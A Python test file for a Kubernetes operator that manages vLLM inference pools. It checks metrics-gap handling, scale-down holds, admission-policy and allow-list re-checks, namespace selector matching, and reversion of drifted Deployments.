    rig.prom.dropped = ("pod deepseek-r1-h200-x (pool h200): vllm:num_requests_waiting = NaN",)
    events = await rig.step()
    cond = rig.cond("MetricsAvailable")
    assert cond["status"] == "True" and cond["reason"] == "SeriesDropped"
    assert "deepseek-r1-h200-x" in cond["message"] and "vllm:num_requests_waiting" in cond["message"]
    assert rig.status()["tokensPerSecond"] == pytest.approx(20_600)  # the rest is measured
    (warn,) = [e for e in events if e.type == "Warning" and e.reason != "UnevenCapacity"]
    assert warn.reason == "MetricsSeriesDropped" and "deepseek-r1-h200-x" in warn.message
    await rig.step()
    emitted = [e for e in rig.kube.events if e["reason"] == "MetricsSeriesDropped"]
    assert len(emitted) == 1  # not repeated every pass


async def test_ready_pool_without_any_series_is_unknown_not_zero(two_pool_example, make_rig):
    """Issue 15: a pool with 2 Ready replicas and no token series was 0 tok/s with MetricsAvailable=True, and
    the factory's $/Mtok ignored its real throughput."""
    rig = make_rig(two_pool_example)
    rig.prom.set_pool(NS, NAME, "gb300", generation_tokens_per_second=20_000.0, engines_reporting=1)
    rig.prom.set_pool(NS, NAME, "h200", generation_tokens_per_second=600.0, engines_reporting=1)
    for _ in range(6):  # pools serving longer than a metrics window (2m)
        await rig.step()
    good_cost = rig.status()["costPerMillionTokens"]
    rig.prom.remove_pool(NS, NAME, "h200")  # h200 still has ready replicas, its engines report nothing
    events = await rig.step()
    cond = rig.cond("MetricsAvailable")
    assert cond["status"] == "False" and cond["reason"] == "PoolNotReporting"
    assert "pool h200" in cond["message"] and "unknown" in cond["message"]
    assert rig.status()["costPerMillionTokens"] == good_cost  # the last good figure, not one from gb300 alone
    assert rig.pool("h200").get("tokensPerSecond") != 0
    assert [e.reason for e in events if e.type == "Warning" and e.reason != "UnevenCapacity"] == ["MetricsUnavailable"]


async def test_busy_engines_without_token_counter_are_unknown_idle_engines_are_idle(two_pool_example, make_rig):
    rig = make_rig(two_pool_example)
    rig.prom.set_pool(NS, NAME, "gb300", generation_tokens_per_second=20_000.0, engines_reporting=1)
    rig.prom.set_pool(NS, NAME, "h200", engines_reporting=1, reports_tokens=False)  # idle: issue 13
    for _ in range(6):
        await rig.step()
    assert rig.cond("MetricsAvailable")["reason"] == "MetricsRead"
    assert rig.pool("h200")["tokensPerSecond"] == 0
    rig.prom.set_pool(NS, NAME, "h200", engines_reporting=1, reports_tokens=False, requests_running=12.0)
    await rig.step()
    assert rig.cond("MetricsAvailable")["reason"] == "PoolNotReporting"


async def test_no_scale_down_until_a_full_window_of_fresh_data_after_a_gap(two_pool_example, monkeypatch, make_rig):
    """Issue 15: after a Prometheus outage longer than scaleDownStabilization, the first rate read (16,654
    tok/s against a true 30,000) scaled gb300 2 -> 1 and back. Reproduced with the gap rule switched off,
    then held with it."""

    async def scenario():
        rig = make_rig(two_pool_example)
        rig.obj["spec"]["scaling"]["scaleDownStabilization"] = "60s"
        rig.obj["spec"]["metrics"]["window"] = "2m"
        rig.prom.set_pool(NS, NAME, "gb300", generation_tokens_per_second=30_000.0, engines_reporting=2)
        rig.prom.set_pool(NS, NAME, "h200", generation_tokens_per_second=0.0, engines_reporting=1)
        for _ in range(8):
            await rig.step()
        assert rig.replicas("gb300") == 2
        rig.prom.fail("PrometheusUnreachable")
        for _ in range(6):  # 3 minutes: longer than the stabilization window
            await rig.step()
        rig.prom.recover()
        rig.prom.set_pool(NS, NAME, "gb300", generation_tokens_per_second=16_654.0, engines_reporting=2)
        events = await rig.step()
        first = rig.replicas("gb300")
        rig.prom.set_pool(NS, NAME, "gb300", generation_tokens_per_second=30_000.0, engines_reporting=2)
        for _ in range(5):
            events += await rig.step()
        return first, rig.replicas("gb300"), events

    with monkeypatch.context() as m:
        m.setattr(Reconciler, "_after_gap", staticmethod(lambda c, memory, now: None))
        first, _, _ = await scenario()
    assert first == 1  # the observation: scaled down on the gap-diluted rate
    first, last, events = await scenario()
    assert first == 2 and last == 2
    held = [e for e in events if e.reason == "ScaleDownHeld"]
    assert held and "gb300: 2 -> 1" in held[0].message and "window" in held[0].message
    assert not [e for e in events if e.reason == "ScaledDown" and e.message.startswith("gb300")]


# ------------------------------------------------------------------ item 1: the operator re-checks author rights

from tokenfactory.pipeline import admission  # noqa: E402

ALLOW = api.AllowListSpec.model_validate({
    "allowedImages": ["vllm/vllm-openai:*"],
    "allowedTolerations": [{"gpuTypes": ["*"], "key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}]})


class FakeLightkube:
    """Answers get(resource, name) from a dict keyed by (group, plural, name); records every call."""

    def __init__(self, objects):
        self.objects, self.calls = objects, []

    async def get(self, res, name):
        from lightkube import ApiError

        group, plural = res._api_info.resource.group, res._api_info.plural
        self.calls.append((group, plural))
        key = (group, plural, name)
        if key not in self.objects:
            raise ApiError(response=httpx.Response(404, json={"code": 404, "message": "not found"},
                                                   request=httpx.Request("GET", "http://x")))
        return self.objects[key]


def _installed():
    from lightkube.generic_resource import GenericGlobalResource
    from lightkube.models.admissionregistration_v1 import (
        ParamRef, ValidatingAdmissionPolicyBindingSpec,
    )
    from lightkube.resources.admissionregistration_v1 import ValidatingAdmissionPolicy, ValidatingAdmissionPolicyBinding

    binding = ValidatingAdmissionPolicyBinding(spec=ValidatingAdmissionPolicyBindingSpec(
        policyName="tf-author-rights", paramRef=ParamRef(name="tf"), validationActions=["Deny"]))
    allow = GenericGlobalResource.from_dict({"apiVersion": "tokenfactory.dev/v1alpha1", "kind": "TokenFactoryAllowList",
                                             "metadata": {"name": "tf"}, "spec": ALLOW.model_dump(by_alias=True)})
    return {("admissionregistration.k8s.io", "validatingadmissionpolicies", "tf-author-rights"): ValidatingAdmissionPolicy(),
            ("admissionregistration.k8s.io", "validatingadmissionpolicybindings", "tf-author-rights"): binding,
            ("tokenfactory.dev", "tokenfactoryallowlists", "tf"): allow}


async def test_reader_gets_exactly_what_the_chart_grants():
    client = FakeLightkube(_installed())
    st = await admission.AdmissionReader("tf-author-rights", client=client).state()
    assert st.allow == ALLOW
    assert set(client.calls) == {("admissionregistration.k8s.io", "validatingadmissionpolicies"),
                                 ("admissionregistration.k8s.io", "validatingadmissionpolicybindings"),
                                 ("tokenfactory.dev", "tokenfactoryallowlists")}
    missing = await admission.AdmissionReader("tf-author-rights", client=FakeLightkube({})).state()
    assert missing.allow is None and "not installed" in missing.missing


def _installed_with_selector(selector, namespaces):
    """The policy installed with a binding narrowed by ``selector``; ``namespaces``: name -> labels."""
    from lightkube.models.admissionregistration_v1 import (
        MatchResources, ParamRef, ValidatingAdmissionPolicyBindingSpec,
    )
    from lightkube.models.meta_v1 import LabelSelector, ObjectMeta
    from lightkube.resources.admissionregistration_v1 import ValidatingAdmissionPolicyBinding
    from lightkube.resources.core_v1 import Namespace

    objects = _installed()
    objects[("admissionregistration.k8s.io", "validatingadmissionpolicybindings", "tf-author-rights")] = (
        ValidatingAdmissionPolicyBinding(spec=ValidatingAdmissionPolicyBindingSpec(
            policyName="tf-author-rights", paramRef=ParamRef(name="tf"), validationActions=["Deny"],
            matchResources=MatchResources(namespaceSelector=LabelSelector.from_dict(selector)))))
    for name, labels in namespaces.items():
        objects[("", "namespaces", name)] = Namespace(metadata=ObjectMeta(name=name, labels=labels))
    return objects


def test_label_selectors_as_kubernetes_reads_them():
    labels = {"kubernetes.io/metadata.name": "llm", "team": "ml"}
    assert admission.selector_matches(None, labels) and admission.selector_matches({}, labels)
    assert admission.selector_matches({"matchLabels": {"team": "ml"}}, labels)
    assert not admission.selector_matches({"matchLabels": {"team": "web"}}, labels)
    expr = lambda op, *values: {"matchExpressions": [{"key": "team", "operator": op, "values": list(values)}]}  # noqa: E731
    assert admission.selector_matches(expr("In", "ml", "x"), labels) and not admission.selector_matches(expr("In", "x"), labels)
    assert admission.selector_matches(expr("NotIn", "x"), labels) and not admission.selector_matches(expr("NotIn", "ml"), labels)
    assert admission.selector_matches(expr("Exists"), labels) and not admission.selector_matches(expr("DoesNotExist"), labels)
    assert not admission.selector_matches(expr("In", "ml"), {"kubernetes.io/metadata.name": "other"})


async def test_a_namespace_the_binding_leaves_out_is_treated_as_the_policy_missing(two_pool_example):
    """The binding's namespaceSelector: where it does not select the factory's namespace the policy never
    checked the author, so the operator refuses unsafe fields there as if the policy were missing (before,
    it applied the allow-list only and served a Secret reference nobody had checked)."""
    client = FakeLightkube(_installed_with_selector({"matchLabels": {"tokenfactory.dev/admission": "on"}},
                                                    {"checked": {"tokenfactory.dev/admission": "on"}, "open": {}}))
    reader = admission.AdmissionReader("tf-author-rights", client=client)
    secret = _spec(two_pool_example, env=[{"name": "DB", "valueFrom": {"secretKeyRef": {"name": "db", "key": "pw"}}}])
    checked, other = await reader.state_for("checked"), await reader.state_for("open")
    assert checked.allow == ALLOW and admission.gate(secret, checked) is None
    assert other.allow is None and "does not select namespace open" in other.missing
    reason, problems = admission.gate(secret, other)
    assert reason == "AdmissionPolicyMissing" and any("secretKeyRef.name: Secret db" in p for p in problems)
    assert ("", "namespaces") in client.calls
    # the chart's watchNamespaces form (the name label only) is decided from the name: no Namespace read
    client = FakeLightkube(_installed_with_selector(
        {"matchExpressions": [{"key": "kubernetes.io/metadata.name", "operator": "In", "values": ["team-a"]}]}, {}))
    reader = admission.AdmissionReader("tf-author-rights", client=client)
    assert (await reader.state_for("team-a")).allow == ALLOW
    assert (await reader.state_for("team-b")).allow is None
    assert ("", "namespaces") not in client.calls
    # a Namespace that cannot be read counts as not selected
    client = FakeLightkube(_installed_with_selector({"matchLabels": {"x": "y"}}, {}))
    st = await admission.AdmissionReader("tf-author-rights", client=client).state_for("gone")
    assert st.allow is None and "could not be read" in st.missing


def test_the_chart_grants_get_namespaces_only_for_a_namespace_selector(helm):  # noqa: F811
    def namespace_rules(*sets):
        argv = [helm, "template", "t", str(KUSTOMIZE.parents[2] / "charts" / "tokenfactory")]
        for s in sets:
            argv += ["--set-json", s]
        res = subprocess.run(argv, capture_output=True, text=True)
        assert res.returncode == 0, res.stderr
        return [r for d in yaml.safe_load_all(res.stdout) if d and d["kind"] == "ClusterRole"
                for r in d["rules"] if "namespaces" in r["resources"]]

    assert namespace_rules() == []
    sel = 'admissionPolicy.namespaceSelector={"matchLabels": {"tokenfactory.dev/admission": "on"}}'
    assert namespace_rules(sel) == [{"apiGroups": [""], "resources": ["namespaces"], "verbs": ["get"]}]
    # namespace-scoped with kopf's namespace reads on: those already include get
    assert [r["verbs"] for r in namespace_rules(sel, 'watchNamespaces=["a"]')] == [["get", "list", "watch"]]


def _spec(example, **engine):
    doc = copy.deepcopy(example["spec"])
    doc["engine"].update(engine)
    return api.parse_spec(doc)


def test_gate_with_the_policy_rechecks_images_and_tolerations(two_pool_example):
    st = admission.AdmissionState("tf-author-rights", allow=ALLOW)
    assert admission.gate(_spec(two_pool_example), st) is None
    reason, problems = admission.gate(_spec(two_pool_example, image="busybox"), st)
    assert reason == "NotAllowed" and problems[0].startswith("spec.engine.image: busybox is not allowed")
    doc = copy.deepcopy(two_pool_example)
    doc["spec"]["pools"][0]["tolerations"] = [{"operator": "Exists"}]  # every taint
    reason, problems = admission.gate(api.parse_spec(doc["spec"]), st)
    assert reason == "NotAllowed" and "spec.pools[name=gb300].tolerations: * not allowed" in problems[0]


def test_gate_without_the_policy_refuses_unsafe_fields(two_pool_example):
    st = admission.AdmissionState("tf-author-rights", missing="not installed")
    secret = [{"name": "DB", "valueFrom": {"secretKeyRef": {"name": "db-password", "key": "pw"}}}]
    reason, problems = admission.gate(_spec(two_pool_example, env=secret), st)
    assert reason == "AdmissionPolicyMissing"
    assert any(p.startswith("spec.engine.env[name=DB].valueFrom.secretKeyRef.name: Secret db-password") for p in problems)
    assert any("tolerations" in p for p in problems)  # the example's pools tolerate the GPU taint
    doc = copy.deepcopy(two_pool_example["spec"])
    for p in doc["pools"]:
        p.pop("tolerations")
    doc["engine"].pop("image")
    assert admission.gate(api.parse_spec(doc), st) is None  # nothing unsafe: served without the policy
    assert admission.gate(_spec(two_pool_example, image="busybox"), None) is None  # no --admission-policy


async def test_refused_spec_is_degraded_with_the_reason_and_nothing_is_created(two_pool_example):
    from test_controller import factory

    kube = FakeKube()
    reader = admission.AdmissionReader("tf-author-rights", client=FakeLightkube({}))
    rec, mem = Reconciler(kube, admission=reader), FactoryMemory()
    obj = factory(two_pool_example)
    obj["spec"]["engine"]["image"] = "busybox"
    events = await rec.reconcile(obj, mem, T0)
    assert not [k for k in kube.objects if k[0] == "Deployment"]
    conds = {c["type"]: c for c in kube.statuses[("llm", "deepseek-r1")]["conditions"]}
    assert conds["Degraded"]["status"] == "True" and conds["Degraded"]["reason"] == "AdmissionPolicyMissing"
    assert "spec.engine.image: busybox" in conds["Degraded"]["message"]
    assert [e.reason for e in events] == ["AdmissionPolicyMissing"]


async def test_drift_that_makes_the_apply_invalid_is_reverted_then_applied(two_pool_example):
    """Seen on the real apiserver: after a hand-set `privileged: true`, the operator's apply (which keeps
    allowPrivilegeEscalation: false) is refused as invalid; the drift is reverted first, then applied."""
    from test_controller import factory

    kube = FakeKube()
    rec, mem, obj = Reconciler(kube), FactoryMemory(), factory(two_pool_example)
    await rec.reconcile(obj, mem, T0)
    kube.edit_pod_spec("llm", "deepseek-r1-gb300", {"containers": [{"name": "miner", "image": "busybox"}]})  # applied first
    kube.fail_next_apply = RuntimeError("Deployment is invalid: cannot set allowPrivilegeEscalation to false and privileged to true")
    events = await rec.reconcile(obj, mem, T0 + dt.timedelta(seconds=5))
    pod = kube.objects[("Deployment", "llm", "deepseek-r1-gb300")]["spec"]["template"]["spec"]
    assert [c["name"] for c in pod["containers"]] == ["vllm"]
    assert [e.reason for e in events if e.type == "Warning" and e.reason != "UnevenCapacity"] == ["DriftReverted"]
    conds = {c["type"]: c for c in kube.statuses[("llm", "deepseek-r1")]["conditions"]}
    assert conds["Degraded"]["status"] == "False"
